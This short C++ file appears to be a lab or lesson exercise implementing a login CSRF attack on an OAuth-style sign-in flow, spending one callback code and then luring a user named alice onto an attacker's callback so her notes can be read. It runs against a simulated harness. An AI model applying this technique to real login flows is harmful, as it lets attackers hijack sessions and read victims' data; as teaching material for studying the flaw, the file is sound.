// Unusual: wastes a code, sends alice to the start of a login, and plants a code only then.
#include "login_csrf.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  std::string callback;
  for (int i = 0; i < 2; ++i) {
    const auto at_provider = evidence.browse(evidence.login).header("Location");
    if (at_provider.empty()) return {};
    callback = evidence.browse(at_provider).header("Location");
    if (i == 0) evidence.browse(callback);
  }
  if (evidence.browse(evidence.notes).status != 200) return {};
  evidence.lure(callback);
  return {.notes = evidence.browse(evidence.notes).body};
}

}  // namespace lesson
